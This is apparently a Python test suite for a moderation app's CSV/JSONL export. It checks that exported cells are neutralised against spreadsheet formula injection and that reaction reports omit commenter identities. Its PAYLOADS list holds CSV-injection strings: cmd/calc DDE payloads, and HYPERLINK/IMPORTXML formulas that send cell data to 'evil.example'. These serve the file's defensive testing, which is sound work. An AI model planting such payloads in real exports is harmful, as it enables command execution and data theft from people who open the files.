import csv
import json
import re
from datetime import timedelta
from io import StringIO
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from chalicelib.audit import Circumstances, Entry
from chalicelib.export import ADVERSE, COLUMNS, MOST_BYTES, REACTION_COLUMNS, reactions, safe_cell, written
from chalicelib.spam.finding import SAFETY, Finding, Thresholds, weigh
from tests.samples import NOW, decision, record

TRIGGERS = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"]
"""What OWASP lists: https://owasp.org/www-community/attacks/CSV_Injection."""
FORMULA = re.compile("[=+\\-@\t\r\n＝＋－＠]")
PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"click")',
    '=IMPORTXML(CONCAT("https://evil.example/?v=", A1), "//a")',
    '"=1+1',
    "'=1+1",
    '","=1+1","',
    ";=1+1",
    'a;"=1+1";',
    "a\n=1+1",
    "a\r\n=1+1",
    "a\t=1+1",
    " =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "\t=1+1",
    "\r=1+1",
]


WORDS = (("Holds 3 links.", "Sent twice."), "Would pass without the links.")


def entry(**changes: Any) -> Entry:
    facts = changes.pop(
        "facts", Circumstances("article", "hold", 60, ("links", "terms"), 75, "Please be kind.", *WORDS)
    )
    return Entry.after(None, decision(record(), "reject", **changes), facts)


def rows(text: str, **how: Any) -> list[list[str]]:
    return list(csv.reader(StringIO(text.removeprefix("\ufeff"), newline=""), strict=True, **how))


def test_a_line_of_each_kind_says_all_that_the_entry_says() -> None:
    kept = entry(reason="abuse", note="Twice\nthis week.")
    text, number = written([kept], "csv")
    head, row = rows(text)
    assert number == 1
    assert text.startswith('\ufeff"id",')
    assert text.count("\r\n") == 2
    assert tuple(head) == COLUMNS
    facts = dict(zip(head, row, strict=True))
    line, number = written([kept], "jsonl")
    assert number == 1
    told = json.loads(line)
    assert tuple(told) == COLUMNS
    assert told["at"] == "2026-11-23T12:31:15.250000Z"
    assert (told["checks"], told["score"], told["waited"], told["undone"]) == (["links", "terms"], 60, 75, False)
    assert (told["article_id"], told["message"], told["hash"]) == ("article", "Please be kind.", kept.hash)
    assert told["previous"] is None
    assert facts == {
        **{name: "" if value is None else str(value) for name, value in told.items()},
        "checks": "links terms",
        "findings": "Holds 3 links. Sent twice.",
        "undone": "false",
    }


def test_an_entry_that_knows_little_has_empty_cells() -> None:
    kept = entry(facts=None)
    _, row = rows(written([kept], "csv")[0])
    facts = dict(zip(COLUMNS, row, strict=True))
    assert [facts[name] for name in ("article_id", "note", "outcome", "score", "checks", "waited")] == [""] * 6
    assert json.loads(written([kept], "jsonl")[0])["checks"] is None


def test_an_empty_file_is_a_header_or_nothing() -> None:
    assert rows(written([], "csv")[0]) == [list(COLUMNS)]
    assert written([], "jsonl") == ("", 0)


@pytest.mark.parametrize("trigger", TRIGGERS)
@pytest.mark.parametrize("before", ["", " ", '"', "'", "words;", "words\t", "words\n", "words\r", 'words;"'])
def test_nothing_that_begins_like_a_formula_is_left_so(trigger: str, before: str) -> None:
    # Where a semicolon or a tab separates cells, what stands behind one is a cell of its own; so is a line's beginning.
    cells = re.split("[;\t\r\n]", safe_cell(f"{before}{trigger}1"))
    assert [cell for cell in cells if FORMULA.match(cell.lstrip(' "'))] == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_hostile_words_stay_in_their_cell_and_are_no_formula(payload: str) -> None:
    hostile = entry(
        by=payload,
        reason=payload,
        note=payload,
        facts=Circumstances(payload, "hold", 1, (payload,), None, payload, (payload,), payload),
    )
    text, _ = written([hostile, entry()], "csv")
    head, row, other = rows(text)
    assert tuple(head) == COLUMNS
    assert (len(row), len(other)) == (len(COLUMNS), len(COLUMNS))
    for name in ("by", "reason", "note", "article_id", "message", "checks", "findings", "remedy"):
        cell = row[COLUMNS.index(name)]
        assert not FORMULA.match(cell), name
        assert cell.replace("'", "") == payload.replace("'", ""), "nothing but apostrophes was added"
    # Opened where a semicolon or a tab separates cells, it has no formula either.
    for delimiter in ";\t":
        for line in csv.reader(StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=delimiter):
            assert [cell for cell in line if FORMULA.match(cell)] == []
    assert [json.loads(line)["note"] for line in written([hostile], "jsonl")[0].splitlines()] == [payload]


@given(st.lists(st.text(st.characters(codec="utf-8") | st.sampled_from("=+-@;\t\r\n\"',＝")), min_size=1, max_size=4))
def test_whatever_is_written_is_read_again(notes: list[str]) -> None:
    entries = [entry(note=note, reason=note) for note in notes]
    text, number = written(entries, "csv")
    assert number == len(notes)
    _, *found = rows(text)
    assert [row[COLUMNS.index("note")] for row in found] == [safe_cell(note) for note in notes]
    assert all(not FORMULA.match(cell) for row in found for cell in row)
    lines = written(entries, "jsonl")[0].splitlines()
    assert [json.loads(line)["note"] for line in lines] == notes


@given(st.text())
def test_words_that_are_safe_stay_as_they_are(words: str) -> None:
    kept = safe_cell(words)
    assert safe_cell("a" + re.sub("[;\t\r\n]", "", words)) == "a" + re.sub("[;\t\r\n]", "", words)
    assert kept.replace("'", "") == words.replace("'", "")


def test_a_file_ends_before_it_is_too_large_and_holds_one_entry_at_least() -> None:
    large = [entry(note="x" * 1_000_000, at=NOW + timedelta(seconds=number)) for number in range(5)]
    for form in ("csv", "jsonl"):
        text, number = written(large, form)  # type: ignore[arg-type]
        assert number == 2
        assert len(text.encode()) < MOST_BYTES + 1000
    assert written([entry(note="x" * 3_000_000)], "jsonl")[1] == 1


def told(text: str) -> Any:
    """Return a comment that tells of a rash."""
    noted = Finding(ADVERSE, 0, "May tell of an unwanted effect.", ((text.index("rash"), text.index("rash") + 4),))
    other = Finding("links", 10, "Holds 1 link.", ((0, 2),))
    return record(text=text, name="Ada Lovelace", email="ada@mail.example", verdict=weigh([other, noted], Thresholds()))


def test_a_possible_adverse_reaction_is_told_without_who_told_it() -> None:
    comment = told("I got a rash from it.")
    (line,) = reactions([comment], "jsonl")[0].splitlines()
    assert json.loads(line) == {
        "comment_id": comment.id,
        "article_id": "article",
        "at": "2026-11-23T12:30:16.250000Z",
        "state": "pending",
        "revision": 1,
        "text": "I got a rash from it.",
        "words": ["rash"],
        "findings": ["May tell of an unwanted effect."],
    }
    head, row = rows(reactions([comment], "csv")[0])
    assert tuple(head) == REACTION_COLUMNS
    assert row[-3:] == ["I got a rash from it.", "rash", "May tell of an unwanted effect."]
    for form in ("csv", "jsonl"):
        text, _ = reactions([comment], form)  # type: ignore[arg-type]
        for secret in ("Ada", "mail.example", comment.author, comment.network):
            assert str(secret) not in text
    assert ADVERSE in SAFETY


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_hostile_comment_is_no_formula_in_a_file_of_reactions(payload: str) -> None:
    _, row = rows(reactions([told(f"{payload} rash")], "csv")[0])
    assert not any(FORMULA.match(cell) for cell in row)
    assert rows(reactions([], "csv")[0]) == [list(REACTION_COLUMNS)]
